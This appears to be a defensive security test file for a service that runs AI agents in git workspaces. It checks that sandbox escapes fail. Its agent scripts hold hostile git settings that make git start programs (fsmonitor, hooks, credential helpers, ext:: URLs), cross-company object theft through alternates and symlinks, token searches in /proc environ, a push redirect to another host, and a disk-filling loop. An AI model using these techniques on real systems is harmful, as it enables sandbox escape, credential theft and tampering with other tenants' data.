import { execFileSync } from "node:child_process";
import { createHash, randomUUID } from "node:crypto";
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect } from "vitest";
import { eventually } from "../support/eventually.ts";
import { type GitHost, git, startGitHost } from "../support/git-host.ts";
import { type AttackedService, attackedService } from "./attacked-service.ts";
import { repositories } from "./attempts/repositories.ts";
import { carryOut } from "./carry-out.ts";

/** A company with a project whose issues have workspaces. */
interface Company {
  readonly id: string;
  readonly projectId: string;
  readonly repositoryId: string;
}

let attacked: AttackedService;
let host: GitHost;
let acme: Company;
let globex: Company;
/** Of one program outside of all sandboxes, which leaves a mark where it runs. */
let payload: string;
let marks: string;

const aCompany = async (name: string): Promise<Company> => {
  const { board } = attacked;
  const { id: companyId } = await board.companies.create({ name });
  const { id: credentialSecretId } = await board.secrets.create({
    companyId,
    name: "host",
    value: host.token!,
  });
  const { id: projectId } = await board.projects.create({ companyId, name: "Crane" });
  const { id } = await board.repositories.create({
    projectId,
    url: host.url,
    credentialSecretId,
    allowPrivateHost: true,
  });
  return { id: companyId, projectId, repositoryId: id };
};

const anIssue = ({ id: companyId, projectId }: Company) =>
  attacked.board.issues.create({ companyId, projectId, title: "Write it" });

const handIn = `curl -sf -X PATCH -H "Authorization: Bearer $SERVICE_API_KEY" -H 'content-type: application/json' -d '{"status":"in_review"}' "$SERVICE_API_URL/api/issues/$SERVICE_TASK_ID" >/dev/null`;

let hired = 0;

interface Issue {
  readonly id: string;
  readonly companyId: string;
}

/** Hires an agent that runs the script in the workspace of the issue; returns its run. */
const ends = async (issue: Issue, script: string) => {
  const { board } = attacked;
  hired += 1;
  const { id: agentId } = await board.agents.create({
    companyId: issue.companyId,
    name: `Agent ${hired}`,
    adapterType: "process",
    adapterConfig: { command: "/bin/sh", args: ["-euc", `${script}\n${handIn}`] },
  });
  await board.issues.update({ issueId: issue.id, assigneeAgentId: agentId, status: "todo" });
  const run = await eventually(
    async () =>
      (await board.runs.ofIssue({ issueId: issue.id })).items.findLast((each) => each.agentId === agentId),
    // The first: one that fails may be followed by others.
    (found) => found !== undefined && found.finishedAt !== null,
  );
  return run!;
};

/** The same, of one that succeeds; returns what it printed. */
const works = async (issue: Issue, script: string) => {
  const run = await ends(issue, script);
  const printed = await attacked.printed(run.id);
  expect(run, printed).toMatchObject({ status: "succeeded" });
  return { runId: run.id, printed };
};

const storeOf = ({ id, repositoryId }: Company, name: "shared" | "kept") =>
  join(attacked.dataDir, "repositories", id, repositoryId, `${name}.git`);
const refsOf = (company: Company, name: "shared" | "kept") =>
  git(storeOf(company, name), ["for-each-ref", "--format=%(refname)"]).split("\n");

const secret = "ONLY-FOR-GLOBEX";
const secretBlob = createHash("sha1")
  .update(`blob ${secret.length + 1}\0${secret}\n`)
  .digest("hex");

/** Names the program in all settings of a clone that git knows; its own work is committed before. */
const hostileSettings = () => `
P=${payload}
echo '* filter=x diff=x merge=x' >.gitattributes
echo work >work.txt
git add .gitattributes work.txt
git commit -qm work
git replace "$(git rev-parse HEAD:work.txt)" "$(echo REPLACED | git hash-object -w --stdin)"
git rev-parse HEAD >.git/info/grafts
git init -q --bare inner
git config --file inner/config core.fsmonitor "$P"
git config --file inner/config core.bare false
mkdir h sub && git init -q sub && git -C sub config core.fsmonitor "$P"
for hook in pre-commit post-commit commit-msg prepare-commit-msg post-checkout post-merge pre-push pre-receive update post-receive reference-transaction post-index-change pre-auto-gc; do
  printf '#!/bin/sh\\n%s\\n' "$P" >h/$hook
  chmod +x h/$hook
  cp h/$hook .git/hooks/$hook 2>/dev/null || :
done
printf '[core]\\n\\tfsmonitor = %s\\n' "$P" >.git/included
for each in core.fsmonitor core.sshCommand core.gitProxy core.askPass core.pager core.editor sequence.editor \\
  filter.x.clean filter.x.smudge filter.x.process diff.x.textconv diff.x.command diff.external merge.x.driver gpg.program \\
  remote.origin.uploadpack remote.origin.receivepack uploadpack.packObjectsHook trailer.x.command trailer.x.cmd; do
  printf '%s\\n' "$each"
done >h/names
while read -r each; do git config --file .git/hostile "$each" "$P"; done <h/names
set_() { git config --file .git/hostile "$1" "$2"; }
set_ core.hooksPath "$PWD/h"
set_ credential.helper "!$P"
set_ alias.status "!$P"
set_ submodule.s.update "!$P"
set_ submodule.s.url "ext::$P"
set_ protocol.ext.allow always
set_ "url.ext::$P .insteadOf" http://
set_ log.showSignature true
set_ commit.gpgSign true
set_ include.path "$PWD/.git/included"
cat .git/hostile >>.git/config
`;

/** Each names a program of the clone that the step which captures the work would start, if git read the clone's settings. */
const hiddenPrograms = `
echo w >before.txt; git add before.txt; git commit -qm 'work before'
cat >.git/p <<'program'
#!/bin/sh
echo "$0 $*" >>"$(dirname "$0")/started"
program
cat >>.git/p <<program
curl -s -X POST -H "Authorization: Bearer $SERVICE_API_KEY" -H 'content-type: application/json' -d '{"body":"Started again"}' "$SERVICE_API_URL/api/issues/$SERVICE_TASK_ID/comments"
git -c http.extraHeader="Authorization: Bearer $SERVICE_API_KEY" push -q origin HEAD:refs/boardroom/runs/$SERVICE_RUN_ID/heads/started
program
chmod +x .git/p
P=$PWD/.git/p
echo s >>before.txt; git stash -q
signed=$(git cat-file commit refs/stash | sed '0,/^$/s//gpgsig -----BEGIN PGP SIGNATURE-----\\n \\n abc\\n -----END PGP SIGNATURE-----\\n/' | git hash-object -t commit -w --stdin)
git stash store -m signed "$signed"
git init -q sub
(cd sub; echo one >one; git add one; git commit -qm one; echo two >one; echo '* filter=x' >.git/info/attributes; git config filter.x.clean "$P"; git config core.fsmonitor "$P")
git update-index --add --cacheinfo "160000,$(git -C sub rev-parse HEAD),sub"
printf '%040d\n' 7 >.git/refs/heads/missing
cp .git/config .git/hostile
git config --file .git/hostile log.showSignature true
git config --file .git/hostile gpg.program "$P"
git config --file .git/hostile core.fsmonitor "$P"
git config --file .git/hostile core.sshCommand "$P"
git config --file .git/hostile core.repositoryFormatVersion 1
git config --file .git/hostile extensions.partialClone o
git config --file .git/hostile remote.o.promisor true
git config --file .git/hostile remote.o.url ssh://127.0.0.1/x
cp .git/hostile .git/config
printf '%040d\n' 8 >.git/refs/heads/other
echo ready
sleep 600
`;

/** A registry of npm with one package; it counts the requests. */
const startRegistry = async () => {
  const folder = mkdtempSync(join(tmpdir(), "registry-"));
  mkdirSync(join(folder, "package"));
  writeFileSync(join(folder, "package/package.json"), '{"name":"tiny","version":"1.0.0"}');
  const tarball = execFileSync("tar", ["-czf", "-", "package"], { cwd: folder });
  const integrity = `sha512-${createHash("sha512").update(tarball).digest("base64")}`;
  rmSync(folder, { recursive: true });
  let requests = 0;
  const server: Server = createServer((request, response) => {
    requests += 1;
    if (request.url?.endsWith(".tgz") === true) return response.end(tarball);
    const dist = { tarball: `${url()}/tiny/-/tiny-1.0.0.tgz`, integrity };
    const versions = { "1.0.0": { name: "tiny", version: "1.0.0", dist } };
    response.setHeader("content-type", "application/json");
    return response.end(JSON.stringify({ name: "tiny", "dist-tags": { latest: "1.0.0" }, versions }));
  });
  const url = () => `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { url: url(), requests: () => requests, close: () => server.close() };
};

carryOut(
  repositories,
  ["root", "user"],
  {
    "hostile-git": async () => {
      const { board } = attacked;
      const issue = await anIssue(acme);
      const issueId = issue.id;
      await board.projects.setGates({
        projectId: acme.projectId,
        gates: [{ name: "tests", kind: "command", command: "grep -qx work work.txt", timeoutSec: 60 }],
      });
      try {
        await works(issue, hostileSettings());
        expect((await works(issue, "cat work.txt")).printed).toContain("work\n");
        const [changes] = await board.issues.changes({ issueId });
        expect(changes).toMatchObject({ problem: null, conflicts: null });
        const diff = await board.issues.diff({ issueId });
        expect(diff).toContain("+work");
        expect(diff).not.toContain("REPLACED");
        await eventually(
          () => board.issues.gates({ issueId }),
          ({ gates }) => gates.every(({ reason }) => reason === null),
        );
        await board.issues.merge({ issueId, method: "squash" });
        expect(git(host.bare, ["show", "main:work.txt"])).toBe("work");
        const { items } = await board.workspaces.list({ companyId: acme.id, issueId });
        const [{ id: workspaceId } = { id: "" }] = items;
        // A gate that is met wakes the agent.
        await eventually(
          () =>
            board.workspaces.remove({ workspaceId, abandon: true }).then(
              () => true,
              () => false,
            ),
          (isRemoved) => isRemoved,
        );
        await board.workspaces.restore({ workspaceId });
        expect((await works(issue, "cat work.txt; git status --short")).printed).toContain("work\n");
        expect(readdirSync(marks)).toEqual([]);
      } finally {
        await board.projects.setGates({ projectId: acme.projectId, gates: [] });
      }
    },
    "started-by-git": async () => {
      const { board } = attacked;
      const issue = await anIssue(acme);
      const { id: agentId } = await board.agents.create({
        companyId: issue.companyId,
        name: "Hidden",
        adapterType: "process",
        adapterConfig: { command: "/bin/sh", args: ["-euc", hiddenPrograms] },
      });
      await board.issues.update({ issueId: issue.id, assigneeAgentId: agentId, status: "todo" });
      const run = await eventually(
        async () => (await board.runs.ofIssue({ issueId: issue.id })).items[0],
        (found) => found !== undefined,
      );
      await eventually(
        () => attacked.printed(run!.id),
        (printed) => printed.includes("ready"),
      );
      await board.runs.cancel({ runId: run!.id });
      await eventually(
        () => board.runs.get({ runId: run!.id }),
        ({ finishedAt }) => finishedAt !== null,
      );
      const { printed } = await works(issue, "cat .git/started 2>/dev/null || echo none");
      expect(printed).toBe("none\n");
      const { items } = await board.issues.comments({ issueId: issue.id });
      expect(items.map(({ body }) => body).join()).not.toContain("Started again");
      expect(refsOf(acme, "kept").filter((ref) => ref.includes("/started"))).toEqual([]);
      // It is captured all the same.
      const [changes] = await board.issues.changes({ issueId: issue.id });
      expect(changes!.commits.map(({ message }) => message).join()).toContain("work before");
    },
    "git-elsewhere": async () => {
      const theirs = await anIssue(globex);
      const { runId } = await works(
        theirs,
        `echo ${secret} >secret.txt; git add secret.txt; git commit -qm secret`,
      );
      const store = storeOf(globex, "kept");
      const head = git(store, ["rev-parse", `refs/boardroom/runs/${runId}/head`]);
      expect(git(store, ["rev-parse", `${head}:secret.txt`])).toBe(secretBlob);
      const issue = await anIssue(acme);
      for (const script of [
        `echo one >one.txt; mv .git "$HOME/was"; echo "gitdir: ${store}" >.git`,
        `git config core.worktree ${join(store, "..")}; echo two >two.txt`,
        `echo ${store}/objects >>.git/objects/info/alternates
         tree=$(printf '100644 blob ${secretBlob}\\tstolen.txt\\n' | git mktree --missing)
         git update-ref HEAD "$(git commit-tree "$tree" -p HEAD -m stolen)"`,
        `mv .git/objects "$HOME/objects"; ln -s ${store}/objects .git/objects; echo ${head} >.git/refs/heads/stolen`,
        `ln -s ${store} link; ln -s ${attacked.dataDir} data`,
      ])
        await works(issue, script);
      const { printed } = await works(
        issue,
        `cat one.txt two.txt; ls -d ${attacked.dataDir}/repositories/*/*/* 2>&1 || :; ls link/ data/ 2>&1 || :
         for store in shared kept; do
           curl -s -o /dev/null -w '%{http_code} ' -H "Authorization: Bearer $SERVICE_API_KEY" -H "X-Service-Run-Id: $SERVICE_RUN_ID" \\
             "$SERVICE_API_URL/git/${globex.repositoryId}/$store/info/refs?service=git-upload-pack"
         done
         git cat-file -e ${secretBlob} 2>/dev/null && echo STOLEN; git fetch -q origin ${head} 2>/dev/null && echo STOLEN
         grep -rs ${secret} . || echo nothing`,
      );
      expect(printed).toMatch(/^one\ntwo\n/);
      expect(printed).toContain("404 404 ");
      expect(printed).toMatch(/nothing\n$/);
      expect(printed).not.toMatch(/STOLEN|kept\.git\n/);
      const own = storeOf(acme, "kept");
      for (const ref of refsOf(acme, "kept")) expect(() => git(own, ["grep", "-q", secret, ref])).toThrow();
      git(own, ["fsck", "--connectivity-only"]);
    },
    "refs-of-others": async () => {
      const [issue, other] = [await anIssue(acme), await anIssue(acme)];
      await works(other, "git commit -q --allow-empty -m other");
      const before = [...refsOf(acme, "shared"), ...refsOf(acme, "kept")];
      const main = git(host.bare, ["rev-parse", "main"]);
      const { printed, runId } = await works(
        issue,
        `git commit -q --allow-empty -m mine
         for ref in refs/heads/main refs/heads/boardroom/${other.identifier} refs/boardroom/runs/${randomUUID()}/tree refs/replace/${"a".repeat(40)} HEAD; do
           git push -q origin "+HEAD:$ref" >/dev/null 2>&1 && echo "PUSHED $ref" || echo refused
           git push -q origin "HEAD:refs/boardroom/runs/$SERVICE_RUN_ID/heads/x" "+HEAD:$ref" >/dev/null 2>&1 || :
         done
         objects=$(cat .git/objects/info/alternates)
         touch "$objects/x" 2>/dev/null && echo WROTE; rm -f "$objects"/pack/* 2>/dev/null && echo WROTE || :`,
      );
      expect(printed).not.toMatch(/PUSHED|WROTE/);
      expect(printed.match(/^refused$/gm)).toHaveLength(5);
      expect(git(host.bare, ["rev-parse", "main"])).toBe(main);
      const own = [`refs/heads/boardroom/${issue.identifier}`, `refs/boardroom/runs/${runId}/`];
      const made = [...refsOf(acme, "shared"), ...refsOf(acme, "kept")].filter(
        (ref) => !before.includes(ref),
      );
      expect(made.filter((ref) => !own.some((each) => ref.startsWith(each)))).toEqual([]);
      expect(made.filter((ref) => ref.endsWith("/heads/x"))).toEqual([]);
      git(storeOf(acme, "kept"), ["fsck", "--connectivity-only"]);
    },
    "host-credential": async () => {
      const issue = await anIssue(acme);
      const seen = host.requests.length;
      const other = await startGitHost(null);
      try {
        const { printed } = await works(
          issue,
          `echo ${Buffer.from(host.token!).toString("base64")} | base64 -d >/tmp/t
           { env; cat /proc/*/environ /proc/*/cmdline | tr '\\0' '\\n'; } 2>/dev/null | grep -cf /tmp/t || :
           grep -rslf /tmp/t "$HOME" . .. || echo no file
           git ls-remote ${host.url} 2>&1 || :
           git config http.proxy http://127.0.0.1:${other.port}
           git config "url.http://127.0.0.1:${other.port}/.insteadOf" "http://127.0.0.1:${host.port}/"
           git config credential.helper '!f() { echo username=x; echo password=y; }; f'
           git config http.extraHeader 'X-Of-Agent: 1'
           git remote set-url origin ${host.url}; git remote set-url --push origin ${other.url}
           echo w >w.txt; git add w.txt; git commit -qm w`,
        );
        expect(printed).toMatch(/^0\nno file\n/);
        expect(printed).toMatch(/could not read Username/);
        await works(issue, "cat w.txt");
        await attacked.board.issues.merge({ issueId: issue.id, method: "squash" });
        expect(git(host.bare, ["show", "main:w.txt"])).toBe("w");
        expect(other.requests).toEqual([]);
        const asked = host.requests.slice(seen).map(({ credential }) => credential);
        expect(new Set(asked)).toEqual(new Set([null, host.token]));
      } finally {
        other.close();
      }
    },
    "settings-of-one-agent": async () => {
      const [one, two] = [await anIssue(acme), await anIssue(acme)];
      await works(
        one,
        `mkdir -p "$HOME/.config/git" "$HOME/h"
         for hook in pre-commit commit-msg; do printf '#!/bin/sh\\necho RAN\\n' >"$HOME/h/$hook"; chmod +x "$HOME/h/$hook"; done
         for file in "$HOME/.gitconfig" "$HOME/.config/git/config"; do
           git config --file "$file" core.hooksPath "$HOME/h"; git config --file "$file" alias.mine '!echo RAN'
           git config --file "$file" user.name Eve
         done`,
      );
      const { printed } = await works(
        two,
        "echo x >x; git add x; git commit -m x; git mine 2>&1 || :; git log -1 --format=%an",
      );
      expect(printed).not.toMatch(/RAN|Eve/);
      expect(printed).toMatch(/Agent \d+\n$/);
    },
    "filled-disk": async () => {
      const issue = await anIssue(acme);
      const run = await ends(
        issue,
        `echo before >before.txt; git add before.txt; git commit -qm before; echo loose >loose.txt
         while :; do head -c 4000000 /dev/urandom | git hash-object -w --stdin >/dev/null; done`,
      );
      expect(run).toMatchObject({ status: "failed", errorCode: "disk_limit" });
      const { printed } = await works(issue, "git log -1 --format=%s; cat before.txt loose.txt");
      expect(printed).toBe("before\nbefore\nloose\n");
    },
    "package-cache": async () => {
      const registry = await startRegistry();
      const install = `npm install tiny --no-audit --no-fund --no-update-notifier --registry ${registry.url}`;
      const home = (company: Company) => join(attacked.dataDir, "homes", company.id);
      const show = `echo "$HOME"; ls -d "$HOME/.npm/_cacache"; ls node_modules`;
      try {
        const first = await works(await anIssue(acme), `${install} >/dev/null; ${show}`);
        expect(first.printed).toBe(`${home(acme)}\n${home(acme)}/.npm/_cacache\ntiny\n`);
        const asked = registry.requests();
        expect(asked).toBeGreaterThan(0);
        const again = await works(await anIssue(acme), `${install} --offline >/dev/null; ${show}`);
        expect(again.printed).toBe(first.printed);
        expect(registry.requests()).toBe(asked);
        const { printed } = await works(
          await anIssue(globex),
          `${install} --offline 2>&1 | grep -o ENOTCACHED | head -1
           ls ${home(acme)} ${home(acme)}/.npm 2>/dev/null && echo SEEN || :
           ${install} >/dev/null; ${show}`,
        );
        expect(printed).toBe(`ENOTCACHED\n${home(globex)}\n${home(globex)}/.npm/_cacache\ntiny\n`);
        expect(registry.requests()).toBeGreaterThan(asked);
      } finally {
        registry.close();
      }
    },
  },
  (environment) => {
    beforeAll(async () => {
      [attacked, host] = await Promise.all([
        attackedService(environment, { SERVICE_RUN_MAX_DISK_MB: "64" }),
        startGitHost(),
      ]);
      [acme, globex] = [await aCompany("Acme"), await aCompany("Globex")];
      marks = join(attacked.folder, "marks");
      payload = join(attacked.folder, "payload");
      mkdirSync(marks);
      chmodSync(marks, 0o777);
      writeFileSync(payload, `#!/bin/sh\ntouch ${marks}/$$\n`, { mode: 0o755 });
    });
    afterAll(async () => {
      await attacked?.close();
      host?.close();
    });
  },
);
